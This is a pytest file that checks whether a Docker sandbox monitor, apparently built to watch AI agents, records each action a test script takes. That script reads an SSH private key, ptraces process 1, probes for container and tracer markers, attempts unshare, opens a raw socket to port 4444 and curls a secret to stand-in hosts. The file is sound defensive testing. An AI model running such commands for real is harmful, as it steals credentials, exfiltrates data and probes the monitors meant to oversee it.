"""Every kind of deed that a report may tell is seen by a witness or by the false world, with time and process."""

import os

import pytest

from sandbox.base import Command, Job, Limits, RoomFile
from sandbox.docker import DockerSandbox

pytestmark = pytest.mark.docker

DEEDS = r"""
import ctypes, os, signal, socket, subprocess
os.makedirs("/workspace/deep", exist_ok=True); os.chdir("/workspace/deep")
subprocess.run(["/usr/bin/env", "printf", "child"], stdout=subprocess.DEVNULL)
open("/home/agent/.ssh/id_rsa").read()
open("/home/agent/note", "w").write("x"); os.rename("/home/agent/note", "/home/agent/note2")
os.chmod("/home/agent/note2", 0o600); os.symlink("/etc/hosts", "/home/agent/sym"); os.link("/home/agent/note2", "/home/agent/hard")
os.unlink("/home/agent/note2")
sleeper = subprocess.Popen(["sleep", "30"]); os.kill(sleeper.pid, signal.SIGTERM); sleeper.wait()
ctypes.CDLL(None).ptrace(16, 1, 0, 0)
os.path.exists("/.dockerenv"); open("/proc/self/status").read()
try:
    os.unshare(0) if hasattr(os, "unshare") else ctypes.CDLL(None).unshare(0x10000000)
except OSError:
    pass
socket.create_connection(("192.0.2.7", 4444), 5).sendall(b"raw")
"""  # noqa: E501 - a script
SENDS = (
    "curl -s -m 10 -X POST -d 'body=secret' https://api.events.example/v1/path?q=1; curl -s -m 10 http://192.0.2.5/x"
)


@pytest.fixture(scope="module")
def seen():
    sandbox = DockerSandbox(deployment=f"tests-events-{os.getpid()}")
    commands = [Command(["python3", "-c", DEEDS]), Command(["bash", "-c", SENDS])]
    job = Job(
        commands=commands,
        files=[RoomFile("/home/agent/.ssh/id_rsa", b"key")],
        network="false-world",
        limits=Limits(wall_seconds=60),
    )
    yield sandbox.run(job)
    sandbox.reap(everything=True)


WANTED = {
    "exec with argv and cwd": ("exec", {"argv": ["/usr/bin/env", "printf", "child"], "cwd": "/workspace/deep"}),
    "open": ("open", {"path": "/home/agent/.ssh/id_rsa"}),
    "write": ("write", {"path": "/home/agent/note"}),
    "rename": ("rename", {"path": "/home/agent/note", "to": "/home/agent/note2"}),
    "chmod": ("chmod", {"path": "/home/agent/note2", "mode": "0600"}),
    "symbolic link": ("link", {"path": "/etc/hosts", "to": "/home/agent/sym"}),
    "hard link": ("link", {"path": "/home/agent/note2", "to": "/home/agent/hard"}),
    "delete": ("delete", {"path": "/home/agent/note2"}),
    "signal to another": ("signal", {"signal": "SIGTERM"}),
    "ptrace": ("ptrace", {"what": "PTRACE_ATTACH"}),
    "a look for the container's mark": ("open", {"path": "/.dockerenv"}),
    "a look for a tracer": ("open", {"path": "/proc/self/status"}),
    "a refused call": ("limit", {"call": "unshare"}),
    "connect": ("connect", {"host": "192.0.2.7", "port": 4444}),
    "the bytes of a raw connection": ("connect", {"sample": "raw", "host": "192.0.2.7"}),
    "dns": ("dns", {"name": "api.events.example"}),
    "tls with its name": ("tls", {"host": "api.events.example"}),
    "http with its method": ("http", {"method": "POST", "host": "api.events.example", "path": "/v1/path?q=1"}),
    "http to a bare address": ("http", {"method": "GET", "host": "192.0.2.5", "path": "/x"}),
}  # fmt: skip


@pytest.mark.parametrize("what", WANTED)
def test_a_deed_is_seen(seen, what):
    kind, detail = WANTED[what]
    of_kind = [event for event in seen.events if event.kind == kind]
    assert any(detail.items() <= event.detail.items() for event in of_kind), [event.detail for event in of_kind]


def test_the_body_of_an_encrypted_request_is_sampled(seen):
    posts = [event for event in seen.events if event.kind == "http" and event.detail["method"] == "POST"]
    assert "body=secret" in str(posts[0].detail["sample"])


def test_every_event_has_its_time_and_every_deed_its_process(seen):
    assert seen.trace_complete and [one.t for one in seen.events] == sorted(one.t for one in seen.events)
    assert all(one.pid for one in seen.events if one.detail.get("seen_by") != "sink" and one.kind != "limit")


def test_the_processes_make_one_tree_for_each_command(seen):
    started = {one.pid: one.detail["parent"] for one in seen.events if one.kind == "exec" and one.detail["step"] == 0}
    roots = [pid for pid, parent in started.items() if parent not in started]
    assert len(roots) == 1 and len(started) >= 3
